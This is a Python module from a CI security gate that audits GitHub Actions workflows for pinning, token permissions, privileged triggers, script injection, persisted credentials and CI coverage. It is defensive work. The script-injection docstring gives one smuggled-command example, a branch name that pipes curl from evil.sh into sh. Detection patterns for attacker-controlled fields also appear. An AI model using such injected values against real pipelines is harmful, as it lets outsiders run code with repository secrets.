"""GitHub Actions checks: that CI gates the pull request, and that the workflows themselves are safe.

The safety checks follow zizmor's audits (unpinned-uses, excessive-permissions, dangerous-triggers,
template-injection, artipacked) in spirit; the gate's own rules and wording are its own.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from pydantic import BaseModel, ConfigDict

from gate.checks.base import Decision, Hit, NoOptions, at, check, conclude, failed, not_applicable, passed
from gate.checks.jobresults import FAILED, job_result
from gate.facts import Facts
from gate.facts.signals import AnyOf, Finder, Then
from gate.facts.workflows import Job, Step, Workflow
from gate.lazyre import lazy
from gate.model import Confidence, Level, Outcome, Severity
from gate.wording import agree, count, every

PR_TRIGGERS = ("pull_request", "merge_group")


def _decide(facts: Facts, hits: list[Hit], ok: str, bad: str, *, judged: int, nothing: str) -> Decision:
    return conclude(
        hits,
        facts.workflows.errors,
        what="workflow file",
        ok=ok,
        bad=bad,
        judged=bool(judged),
        nothing=nothing,
    )


def _steps(facts: Facts, *, actions: bool = False) -> Iterator[tuple[Workflow, Job, Step]]:
    for wf in facts.workflows.workflows:
        if wf.is_action and not actions:
            continue
        for job in wf.jobs:
            for step in job.steps:
                yield wf, job, step


def _found(
    facts: Facts, pattern: Finder, uses: re.Pattern[str] | None = None, *, pr_only: bool = False
) -> tuple[Workflow, Job, Step] | None:
    for wf, job, step in _steps(facts):
        if pr_only and not set(wf.triggers) & set(PR_TRIGGERS):
            continue
        if (step.run and pattern.search(step.run)) or (uses and step.uses and uses.search(step.uses)):
            return wf, job, step
        if any(pattern.search(text) for _, text in step.scripts):
            return wf, job, step
    return None


def _presence(
    facts: Facts,
    what: str,
    pattern: Finder,
    uses: re.Pattern[str] | None,
    hint: str,
    *,
    pr_only: bool,
) -> Decision:
    if not facts.workflows.ci:
        return Decision(
            Outcome.FAIL,
            "No GitHub workflow.",
            (Hit(f"No workflow in .github/workflows {hint}.", (at(".github/workflows"),)),),
        )
    found = _found(facts, pattern, uses, pr_only=pr_only)
    if found:
        wf, job, step = found
        direct = (step.run and pattern.search(step.run)) or (uses and step.uses and uses.search(step.uses))
        through = "" if direct else next((f" through {p}" for p, t in step.scripts if pattern.search(t)), "")
        # "passing" asks for the result: as the Action, the job's check run on the head commit says it
        result = job_result(facts, job)
        if result is not None and result.conclusion in FAILED:
            return failed(
                f"{wf.path}:{step.line} {what}, but its job concluded {result.conclusion} on this commit.",
                Hit(f"Job {job.id} concluded {result.conclusion}.", (at(wf.path, job.line),)),
            )
        outcome = (
            f" Its job {result.conclusion} on this commit."
            if result is not None and result.conclusion
            else ""
        )
        return passed(f"{wf.path}:{step.line} {what} (`{step.name}`{through}).{outcome}")
    anywhere = _found(facts, pattern, uses) if pr_only else None
    if anywhere:
        wf, _, step = anywhere
        return failed(
            f"{what.capitalize()} only outside pull requests.",
            Hit(
                f"`{step.name}` runs in {wf.path}, which no pull_request event triggers.",
                (at(wf.path, wf.line_at("on")),),
            ),
        )
    first = facts.workflows.ci[0]
    return failed(f"No workflow {hint}.", Hit(f"No workflow step {hint}.", (at(first.path, 1),)))


_TESTS = lazy(
    r"\b(pytest|py\.test|unittest|tox|nox|make\s+(test|check)|hatch\s+(run\s+)?test|manage\.py\s+test)\b"
)
_LINT = lazy(
    r"\b(ruff|flake8|pylint|black\s+--check|mypy|pre-commit\s+run|isort\s+--check|pyright|make\s+lint)\b"
)
_LINT_USES = lazy(r"^(astral-sh/ruff-action|chartboost/ruff-action|pre-commit/action|psf/black|reviewdog/)")
# a formatter that fails on unformatted code: check or diff mode, or a pre-commit hook (pre-commit fails
# when a hook changes a file); `black .` alone rewrites the files and passes
_FORMAT = AnyOf(
    (
        # each formatter and its check flag in one shell command (linear: gate/facts/signals.py; the
        # single pattern took 20 s on a 100 KB line of `black ` words)
        *(
            Then(lazy(tool), lazy(flag), stop=";&|")
            for tool, flag in (
                (r"\bblack\b", r"\s--check\b"),
                (r"\bruff\s+format\b", r"\s--(check|diff)\b"),
                (r"\bisort\b", r"\s--(check-only|check|diff)\b"),
                (r"\byapf\b", r"\s--diff\b"),
                (r"\bautopep8\b", r"\s--exit-code\b"),
            )
        ),
        lazy(r"^\s*-\s*id:\s*(black|black-jupyter|ruff-format|isort|autopep8|yapf)\s*$", re.M),
    )
)
_FORMAT_USES = lazy(r"^psf/black")  # the action runs black --check --diff unless told otherwise
_SCAN = lazy(r"\b(pip-audit|safety\s+(check|scan)|trivy|bandit|grype|snyk|osv-scanner|semgrep|prodgate)\b")
_SCAN_USES = lazy(
    r"^(pypa/gh-action-pip-audit|aquasecurity/trivy-action|github/codeql-action/analyze|snyk/actions|anchore/scan-action|google/osv-scanner-action|returntocorp/semgrep-action|semgrep/)"
)
_BUILD = lazy(
    r"\b(docker\s+(build|buildx\s+build)|docker\s+compose\s+build|docker-compose\s+build|buildah\s+bud|podman\s+build|kaniko)\b"
)
_BUILD_USES = lazy(r"^(docker/build-push-action|redhat-actions/buildah-build)")


@check(
    id="ci-workflow-present",
    title="CI workflow runs on pull requests",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.BRONZE,
    applies_when="always",
    remediation="Add a workflow in .github/workflows that runs on pull_request.",
    seeds=(
        "CI/CD workflow added and passing (check `.github/workflows/ci-cd.yml` and artifacts in Actions run)",
        "GitHub Actions workflow configured",
    ),
)
def ci_workflow_present(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That the repository has a GitHub Actions workflow triggered by pull requests (`pull_request` or
    `merge_group`).

    ## Why it matters
    Every other CI line of the checklist needs a workflow to live in, and only a pull-request
    trigger checks a change before it merges.

    ## How to fix
    Add `.github/workflows/ci.yml` with `on: pull_request`.

    ## Example
    ```yaml
    on:
      pull_request:
      push:
        branches: [main]
    ```
    """
    ci = facts.workflows.ci
    pr = [w for w in ci if set(w.triggers) & set(PR_TRIGGERS)]
    if pr:
        return passed(
            f"{count(len(pr), 'workflow')} {agree(len(pr), 'runs', 'run')} on pull requests: {', '.join(w.path for w in pr)}."
        )
    if facts.workflows.errors and not ci:
        return _decide(facts, [], "", "", judged=0, nothing="")
    if ci:
        return failed(
            "No workflow runs on pull requests.",
            *(
                Hit(
                    f"{w.path} runs on {', '.join(sorted(w.triggers)) or 'nothing'}, not on pull requests.",
                    (at(w.path, w.line_at("on")),),
                )
                for w in ci
            ),
        )
    return failed("No GitHub workflow.", Hit("No workflow in .github/workflows.", (at(".github/workflows"),)))


@check(
    id="ci-runs-tests",
    title="CI runs the tests on pull requests",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.BRONZE,
    applies_when="always",
    remediation="Run the test suite in a workflow triggered by pull_request.",
    seeds=("Automated tests on PR",),
)
def ci_runs_tests(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That a workflow triggered by pull requests runs the tests: pytest, unittest, tox, nox, `make test`,
    `hatch test`, Django's `manage.py test`, also inside `docker compose run`. What a step runs is
    followed one level: the repository's own scripts (`bash ci/test.sh`), the recipe of a Makefile
    target and of its prerequisites (`make verify` where `verify: lint unit`), and the `command:` of
    the compose services it runs (`docker compose -f compose.ci.yaml run unit`).

    Run as the Action with the head commit's checks read (`ci-checks-passing` with names in
    `required`), the step's job must not have failed on this commit; otherwise the workflow alone is
    read.

    ## Why it matters
    Tests that only run on a laptop do not stop a broken model loader from merging.

    ## How to fix
    Add a test step to the pull-request workflow.

    ## Example
    ```yaml
    - run: pip install -r requirements-dev.txt
    - run: pytest
    ```
    """
    return _presence(facts, "runs the tests", _TESTS, None, "runs the tests on pull requests", pr_only=True)


@check(
    id="ci-lint",
    title="CI runs a linter",
    category="ci-cd",
    severity=Severity.LOW,
    level=Level.SILVER,
    applies_when="always",
    remediation="Run a linter (ruff, flake8, pylint, mypy or pre-commit) in CI.",
    seeds=(
        "Code linting passes (`ruff check src/ scripts/`)",
        "Code linted (`make lint`)",
        "Code linted and formatted: `make lint format`",
    ),
)
def ci_lint(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That a workflow runs a linter or type checker: ruff, flake8, pylint, `black --check`, mypy,
    pyright, isort, `pre-commit run`, `make lint`, or a lint action (ruff-action, pre-commit/action).

    Run as the Action with the head commit's checks read (`ci-checks-passing` with names in
    `required`), the step's job must not have failed on this commit; otherwise the workflow alone is
    read.

    ## Why it matters
    Linters catch the undefined name in the error path that no test reaches.

    ## How to fix
    Add a lint step (pre-commit runs them all).

    ## Example
    ```yaml
    - run: ruff check . && ruff format --check .
    ```
    """
    return _presence(facts, "lints the code", _LINT, _LINT_USES, "lints the code", pr_only=False)


@check(
    id="ci-format-check",
    title="CI checks the formatting",
    category="ci-cd",
    severity=Severity.LOW,
    level=Level.SILVER,
    applies_when="always",
    remediation="Run a formatter in check mode in CI (ruff format --check, black --check) or as a pre-commit hook.",
    seeds=("Code formatting is correct (`black --check src/ scripts/`)", "Code formatted (`make format`)"),
)
def ci_format_check(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That a workflow runs a formatter that fails on unformatted code: `ruff format --check` or
    `--diff`, `black --check`, `isort --check`, `yapf --diff`, `autopep8 --exit-code`, the psf/black
    action, or `pre-commit run` (and pre-commit/action) with a formatter hook (black, ruff-format,
    isort, autopep8, yapf) in `.pre-commit-config.yaml`. Steps in the repository's own scripts and
    Makefile targets that a workflow runs count too. A linter alone does not: `ruff check` passes
    badly formatted code. Run as the Action with the head commit's checks read (`ci-checks-passing`
    with names in `required`), a job that failed fails it; otherwise the workflow alone is read.

    ## Why it matters
    A formatter that only runs on someone's machine lets unformatted code in, and every later change
    to those files mixes formatting noise into the diff a reviewer reads.

    ## How to fix
    Add a check-mode step next to the linter.

    ## Example
    ```yaml
    - run: ruff check . && ruff format --check .
    ```
    """
    return _presence(
        facts, "checks the formatting", _FORMAT, _FORMAT_USES, "checks the formatting", pr_only=False
    )


@check(
    id="ci-security-scan",
    title="CI runs a security scanner",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.SILVER,
    applies_when="always",
    remediation="Scan dependencies or the image in CI (pip-audit, trivy, bandit, CodeQL, or prodgate itself).",
    seeds=("Security scanning enabled",),
)
def ci_security_scan(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That a workflow runs a security scanner: pip-audit, safety, trivy, bandit, grype, snyk,
    osv-scanner, semgrep, CodeQL, or prodgate (which audits dependencies).

    Run as the Action with the head commit's checks read (`ci-checks-passing` with names in
    `required`), the step's job must not have failed on this commit; otherwise the workflow alone is
    read.

    ## Why it matters
    New advisories appear for packages that have not changed; only a scan in CI notices.

    ## How to fix
    Add a scanning step or action.

    ## Example
    ```yaml
    - uses: pypa/gh-action-pip-audit@<sha> # v1.1.0
      with: {inputs: requirements.txt}
    ```
    """
    return _presence(
        facts, "scans for vulnerabilities", _SCAN, _SCAN_USES, "runs a security scanner", pr_only=False
    )


@check(
    id="ci-builds-image",
    title="CI builds the image",
    category="ci-cd",
    severity=Severity.LOW,
    level=Level.SILVER,
    applies_when="the repository has a Dockerfile",
    remediation="Build the image in CI (docker/build-push-action or `docker build`) so a broken Dockerfile fails the pull request.",
    seeds=("Image builds successfully", "Docker image built successfully"),
)
def ci_builds_image(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    When the repository has a Dockerfile, that a workflow builds an image: `docker build`,
    `docker buildx build`, `docker compose build`, buildah, podman, kaniko, or docker/build-push-action.

    Run as the Action with the head commit's checks read (`ci-checks-passing` with names in
    `required`), the step's job must not have failed on this commit; otherwise the workflow alone is
    read.

    ## Why it matters
    A Dockerfile that only builds on release day fails on release day.

    ## How to fix
    Build (without pushing) on pull requests.

    ## Example
    ```yaml
    - uses: docker/build-push-action@<sha> # v6
      with: {push: false}
    ```
    """
    if not facts.docker.dockerfiles and not facts.docker.errors:
        return not_applicable("No Dockerfile.")
    return _presence(facts, "builds the image", _BUILD, _BUILD_USES, "builds the image", pr_only=False)


# -- permissions ------------------------------------------------------------------------------------


@check(
    id="workflow-permissions-declared",
    title="Workflow permissions declared",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.SILVER,
    applies_when="the repository has workflows",
    remediation="Declare `permissions: {contents: read}` at the top of each workflow and grant write scopes per job.",
)
def workflow_permissions_declared(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That every workflow declares `permissions:` at the top level or on every job, never grants
    `write-all`, and does not grant write scopes at the top level to several jobs at once (each job
    that needs `contents: write` or `id-token: write` should ask for it itself). The jobs of a
    workflow that only runs when called (`on: workflow_call`) need no declaration: their token is
    bounded by the caller's; a job there that calls another reusable workflow still does, since it
    hands its own token on. Peer: zizmor excessive-permissions, OpenSSF Scorecard Token-Permissions.

    Differs from zizmor excessive-permissions on purpose: `permissions: read-all` passes here (it
    exposes nothing writable); zizmor reports it.

    ## Why it matters
    Without a declaration the GITHUB_TOKEN gets the repository's default, often write to everything;
    a compromised action or a script injection can then push code or tamper with releases.

    ## How to fix
    Start from read-only and add write scopes only to the job that needs them.

    ## Example
    ```yaml
    permissions:
      contents: read
    jobs:
      release:
        permissions: {contents: write}
    ```
    """
    hits: list[Hit] = []
    for wf in facts.workflows.ci:
        top = wf.data.get("permissions")
        if top == "write-all":
            hits.append(Hit(f"{wf.path} grants write-all.", (at(wf.path, wf.line_at("permissions")),)))
            continue
        inheriting = [job for job in wf.jobs if job.data.get("permissions") is None]
        if isinstance(top, dict) and len(wf.jobs) > 1 and inheriting:
            names = ", ".join(job.id for job in inheriting)
            hits.extend(
                Hit(
                    f"`{scope}: write` is granted to every job of {wf.path} that sets no permissions of its own ({names}).",
                    (at(wf.path, wf.line_at("permissions", str(scope))),),
                )
                for scope, level in top.items()
                if level == "write"
            )
        called_only = wf.triggers == {"workflow_call"}
        for job in wf.jobs:
            if called_only and not job.uses:
                continue  # its token is bounded by the caller's; a job that calls on passes its own
            perm = job.data.get("permissions")
            if perm == "write-all":
                hits.append(
                    Hit(
                        f"Job {job.id} grants write-all.",
                        (at(wf.path, wf.line_at("jobs", job.id, "permissions")),),
                    )
                )
            elif top is None and perm is None:
                hits.append(
                    Hit(f"Job {job.id} runs with the default token permissions.", (at(wf.path, job.line),))
                )
    judged = len(facts.workflows.ci)
    return _decide(
        facts,
        hits,
        f"{every(judged, 'workflow')} {agree(judged, 'declares its', 'declare their')} token permissions.",
        "Undeclared or excessive permissions",
        judged=judged,
        nothing="No workflows.",
    )


# -- pinning ----------------------------------------------------------------------------------------

_SHA = lazy(r"@[0-9a-f]{40}$")


class PinOptions(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid", defer_build=True)
    allow_github_owned_tags: bool = True
    """Let actions/* and github/* (GitHub's own, immutable releases are common there) use tags."""


@check(
    id="actions-pinned-to-sha",
    title="Actions pinned to a commit SHA",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.SILVER,
    applies_when="the repository has workflows or actions that use other actions",
    remediation="Pin third-party actions to a full commit SHA with the version in a comment: `uses: org/action@<40-hex> # v1.2.3`.",
    options=PinOptions,
)
def actions_pinned_to_sha(facts: Facts, options: PinOptions) -> Decision:
    """
    ## What it checks
    That every `uses:` of a third-party action or reusable workflow, in workflows and in composite
    actions, names a full 40-character commit SHA. Local actions (`./...`) are exempt, `docker://`
    images must carry a digest. By default GitHub's own `actions/*` and `github/*` may use tags
    (option `allow_github_owned_tags`, set it to false to require SHAs everywhere). Peer: zizmor
    unpinned-uses, OpenSSF Scorecard Pinned-Dependencies.

    ## Why it matters
    A tag is a pointer the action's owner (or whoever steals their token) can move: the tj-actions
    compromise of 2025 rewrote tags to leak secrets from thousands of workflows.

    ## How to fix
    Replace the tag with its commit SHA and keep the tag as a comment; Dependabot updates both.

    ## Example
    ```yaml
    - uses: astral-sh/setup-uv@3b9817b1bf26186f03ab8277bab9b827ea5cc254 # v3.2.0
    ```
    """
    hits: list[Hit] = []
    judged = 0
    trusted_tags = 0
    for wf in facts.workflows.workflows:
        refs: list[tuple[str, int]] = [(s.uses, s.line) for j in wf.jobs for s in j.steps if s.uses]
        refs += [(j.uses, j.line) for j in wf.jobs if j.uses]
        for uses, line in refs:
            if uses.startswith("./"):
                continue
            if uses.startswith("docker://"):
                judged += 1
                if "@sha256:" not in uses:
                    hits.append(Hit(f"`{uses}` is a container image without a digest.", (at(wf.path, line),)))
                continue
            owner = uses.split("/", 1)[0].lower()
            if options.allow_github_owned_tags and owner in ("actions", "github") and not _SHA.search(uses):
                trusted_tags += 1  # allowed on a tag, so not counted as pinned
                continue
            judged += 1
            if not _SHA.search(uses):
                hits.append(Hit(f"`{uses}` is not pinned to a commit SHA.", (at(wf.path, line),)))
    allowed = (
        f"; {count(trusted_tags, 'GitHub-owned action reference')} on tags, allowed by allow_github_owned_tags"
        if trusted_tags
        else ""
    )
    return _decide(
        facts,
        hits,
        f"{every(judged, 'third-party action reference')} {agree(judged, 'is', 'are')} pinned to a SHA{allowed}."
        if judged
        else f"No third-party action references{allowed}.",
        "Actions pinned to a movable ref",
        judged=judged + trusted_tags,
        nothing="No workflow uses third-party actions.",
    )


# -- dangerous triggers -----------------------------------------------------------------------------

_PR_HEAD = lazy(
    r"github\.(event\.pull_request\.head\.(sha|ref)|head_ref|event\.workflow_run\.head_(sha|branch))|refs/pull/"
)


@check(
    id="workflow-no-dangerous-triggers",
    title="No untrusted code run with repository secrets",
    category="ci-cd",
    severity=Severity.CRITICAL,
    level=Level.BRONZE,
    applies_when="the repository has workflows",
    remediation="Check out the pull request's code only in pull_request workflows; in pull_request_target/workflow_run, handle only data.",
)
def workflow_no_dangerous_triggers(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    Workflows triggered by `pull_request_target` or `workflow_run` (which run with the repository's
    secrets and a write token) that check out the pull request's own code: `actions/checkout` with a
    `ref` naming the PR head (`github.event.pull_request.head.sha`, `github.head_ref`,
    `refs/pull/...`, the workflow_run head), or `git checkout`/`gh pr checkout` of it in a run step.
    Peer: zizmor dangerous-triggers, GitHub Security Lab's "pwn request".

    ## Why it matters
    Anyone who opens a pull request from a fork can then run code (a test, a setup.py, a Makefile)
    with your secrets and push access.

    ## How to fix
    Run untrusted code in a `pull_request` workflow (no secrets), and pass results to a privileged
    `workflow_run` workflow as artifacts that are read as data, never executed.

    ## Example
    ```yaml
    on: pull_request   # not pull_request_target, when the job checks out and runs the PR's code
    ```
    """
    hits: list[Hit] = []
    judged = 0
    for wf in facts.workflows.ci:
        if not set(wf.triggers) & {"pull_request_target", "workflow_run"}:
            continue
        judged += 1
        for job in wf.jobs:
            for step in job.steps:
                ref = (
                    str(step.with_.get("ref", ""))
                    if step.uses and step.uses.startswith("actions/checkout")
                    else ""
                )
                script = step.run or ""
                if _PR_HEAD.search(ref) or (
                    ("git checkout" in script or "gh pr checkout" in script)
                    and (_PR_HEAD.search(script) or "gh pr checkout" in script)
                ):
                    hits.append(
                        Hit(
                            f"Job {job.id} checks out the pull request's code in a privileged workflow.",
                            (at(wf.path, step.line),),
                        )
                    )
    return _decide(
        facts,
        hits,
        f"No privileged workflow checks out pull request code ({count(judged, 'privileged workflow')} read)."
        if judged
        else "No workflow is privileged (pull_request_target, workflow_run), so none runs pull request code.",
        "Privileged workflows running pull request code",
        judged=judged or len(facts.workflows.ci),
        nothing="No workflows.",
    )


# -- script injection -------------------------------------------------------------------------------

_UNTRUSTED = lazy(
    r"\$\{\{\s*(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|pages\.[^}]*\.page_name|commits\.[^}]*\.(message|author\.(email|name))"
    r"|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.message|display_title)|discussion\.(title|body))"
    r"|github\.head_ref)\s*\}\}"
)

# inputs that an action runs as code: an expression there is pasted into a script, as into `run:`
_CODE_INPUTS = {
    "actions/github-script": "script",
    "azure/cli": "inlinescript",
    "azure/powershell": "inlinescript",
    "amadevus/pwsh-script": "script",
    "mikefarah/yq": "cmd",
    "appleboy/ssh-action": "script",
    "addnab/docker-run-action": "run",
    "jannekem/run-python-script-action": "script",
}
_ACTION_INPUT = lazy(r"\$\{\{\s*inputs\.[A-Za-z0-9_-]+\s*\}\}")


def _scripts(step: Step) -> list[tuple[str, str, int]]:
    """What a step runs as code, with what to call it and its line: its `run:`, and the input of a
    known action that takes a script."""
    found = [("a run script", step.run, step.run_line)] if step.run is not None else []
    if step.uses:
        action = step.uses.split("@", 1)[0].strip().lower()
        key = _CODE_INPUTS.get(action)
        value = next((v for k, v in step.with_.items() if str(k).lower() == key), None) if key else None
        if isinstance(value, str):
            found.append((f"the `{key}` input of {action}", value, step.line))
    return found


@check(
    id="workflow-no-script-injection",
    title="No script injection in workflows",
    category="ci-cd",
    severity=Severity.HIGH,
    level=Level.BRONZE,
    applies_when="the repository has workflows",
    remediation='Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use "$TITLE" in the script.',
)
def workflow_no_script_injection(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    Scripts that expand attacker-controlled fields directly with `${{ }}`: pull request and issue
    titles and bodies, comment bodies, branch names (`github.head_ref`), commit messages and author
    names. A script is a `run:` (in workflows and composite actions) or the input of an action that
    runs it as code: `actions/github-script` `script`, `azure/cli` and `azure/powershell`
    `inlineScript`, `Amadevus/pwsh-script` `script`, `mikefarah/yq` `cmd`, `appleboy/ssh-action`
    `script`, `addnab/docker-run-action` `run`, `jannekem/run-python-script-action` `script`. In a
    composite action, `${{ inputs.* }}` expanded in a
    script is reported at medium severity: the caller decides what the input holds, often a title.
    Peer: zizmor template-injection.

    Differs from zizmor template-injection on purpose: zizmor also reports expansions it cannot prove
    constant (`env.*` set from elsewhere, a matrix built from a step's output, a run id read with
    `fromJson`); here only fields an outsider can write are reported, which is what the attack needs.
    A number such as `(github.event.pull_request || github.event.issue).number` is not reported.

    ## Why it matters
    The expression is pasted into the script before the shell runs it: a branch named
    `a";curl evil.sh|sh;"` runs code in your CI with its token.

    ## How to fix
    Move the expression to `env:` and quote the variable in the script.

    ## Example
    ```yaml
    - env:
        TITLE: ${{ github.event.pull_request.title }}
      run: echo "$TITLE"
    ```
    """
    hits: list[Hit] = []
    judged = 0
    for wf, job, step in _steps(facts, actions=True):
        for what, script, line in _scripts(step):
            judged += 1
            if m := _UNTRUSTED.search(script):
                hits.append(
                    Hit(f"`{m.group(0)}` is expanded inside {what} (job {job.id}).", (at(wf.path, line),))
                )
            elif wf.is_action and (m := _ACTION_INPUT.search(script)):
                hits.append(
                    Hit(
                        f"`{m.group(0)}` is expanded inside {what} of this composite action: its caller may pass a title or a branch name.",
                        (at(wf.path, line),),
                        severity=Severity.MEDIUM,
                    )
                )
    return _decide(
        facts,
        hits,
        f"{every(judged, 'script')} {agree(judged, 'expands', 'expand')} no untrusted input.",
        "Script injection",
        judged=judged,
        nothing="No run steps or script inputs.",
    )


# -- persisted credentials --------------------------------------------------------------------------


@check(
    id="checkout-no-persisted-credentials",
    title="Checkout does not persist credentials",
    category="ci-cd",
    severity=Severity.LOW,
    level=Level.GOLD,
    confidence=Confidence.MEDIUM,
    applies_when="workflows check out the repository",
    remediation="Add `with: {persist-credentials: false}` to actions/checkout in jobs that do not push.",
)
def checkout_no_persisted_credentials(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That `actions/checkout` sets `persist-credentials: false` in jobs that never push (no `git push`,
    no `gh` release or pull-request command, no push action), in workflows and in composite actions.
    An explicit `persist-credentials: true` states the intent and is not reported. Peer: zizmor
    artipacked.

    ## Why it matters
    By default checkout writes the token into `.git/config`, where every later step, and any
    artifact that uploads the workspace, can read it.

    ## How to fix
    Set the input to false; jobs that push keep the default.

    ## Example
    ```yaml
    - uses: actions/checkout@<sha> # v4
      with: {persist-credentials: false}
    ```
    """
    hits: list[Hit] = []
    judged = 0
    for wf in facts.workflows.workflows:
        for job in wf.jobs:
            scripts = " ".join(s.run or "" for s in job.steps)
            pushes = (
                "git push" in scripts
                or re.search(r"\bgh\s+(release|pr)\b", scripts)
                or any(
                    s.uses and re.search(r"(push|commit|release|publish|pages)", s.uses)
                    for s in job.steps
                    if not (s.uses or "").startswith("actions/checkout")
                )
            )
            for step in job.steps:
                if not (step.uses or "").startswith("actions/checkout"):
                    continue
                judged += 1
                # the default keeps the token; an explicit true is a decision, and is left to the team
                if not pushes and "persist-credentials" not in step.with_:
                    hits.append(
                        Hit(
                            f"Job {job.id} keeps the token in .git/config but never pushes.",
                            (at(wf.path, step.line),),
                        )
                    )
    return _decide(
        facts,
        hits,
        f"{every(judged, 'checkout that needs', 'checkouts that need')} no token {agree(judged, 'drops', 'drop')} it.",
        "Checkouts persisting credentials",
        judged=judged,
        nothing="No workflow checks out the repository.",
    )


# -- dependency updates -----------------------------------------------------------------------------


@check(
    id="dependency-updates-configured",
    title="Dependency updates automated",
    category="dependencies",
    severity=Severity.LOW,
    level=Level.SILVER,
    applies_when="always",
    remediation="Add .github/dependabot.yml (pip, docker and github-actions ecosystems) or a Renovate config.",
    seeds=("Dependency updates scheduled",),
)
def dependency_updates_configured(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That Dependabot (`.github/dependabot.yml`) or Renovate (`renovate.json`, `.renovaterc`, ...) is
    configured.

    ## Why it matters
    Pinned dependencies and SHA-pinned actions are only safe if something proposes the updates;
    otherwise pinning freezes known vulnerabilities in place.

    ## How to fix
    Add a Dependabot config covering pip, docker and github-actions.

    ## Example
    ```yaml
    version: 2
    updates:
      - {package-ecosystem: pip, directory: /, schedule: {interval: weekly}}
      - {package-ecosystem: github-actions, directory: /, schedule: {interval: weekly}}
    ```
    """
    configs = facts.workflows.dependency_update_configs
    if configs:
        return passed(f"Dependency updates configured: {', '.join(configs)}.")
    return failed(
        "No Dependabot or Renovate configuration.",
        Hit("No .github/dependabot.yml or Renovate config.", (at(".github/dependabot.yml"),)),
    )


# -- deploy environments ----------------------------------------------------------------------------

_DEPLOY = lazy(r"(deploy|release|publish|promote)", re.I)


@check(
    id="deploy-uses-environment",
    title="Deploy jobs use protected environments",
    category="ci-cd",
    severity=Severity.MEDIUM,
    level=Level.GOLD,
    applies_when="workflows have deploy jobs",
    remediation="Give deploy jobs an `environment:` whose protection rules require review and restrict branches.",
)
def deploy_uses_environment(facts: Facts, options: NoOptions) -> Decision:
    """
    ## What it checks
    That jobs whose id or name says they deploy, release, publish or promote run in a GitHub
    `environment:` (where required reviewers, wait timers, branch rules and environment secrets live).

    ## Why it matters
    Without an environment, any branch that can run the workflow can deploy, with the production
    secrets available to every job.

    ## How to fix
    Create the environment with protection rules and reference it from the job.

    ## Example
    ```yaml
    deploy:
      environment: production
    ```
    """
    hits: list[Hit] = []
    judged = 0
    for wf in facts.workflows.ci:
        for job in wf.jobs:
            if not _DEPLOY.search(f"{job.id} {job.data.get('name', '')}"):
                continue
            judged += 1
            if not job.data.get("environment"):
                hits.append(
                    Hit(f"Job {job.id} deploys without a protected environment.", (at(wf.path, job.line),))
                )
    return _decide(
        facts,
        hits,
        f"{every(judged, 'deploy job')} {agree(judged, 'uses', 'use')} an environment.",
        "Deploy jobs without an environment",
        judged=judged,
        nothing="No deploy jobs.",
    )
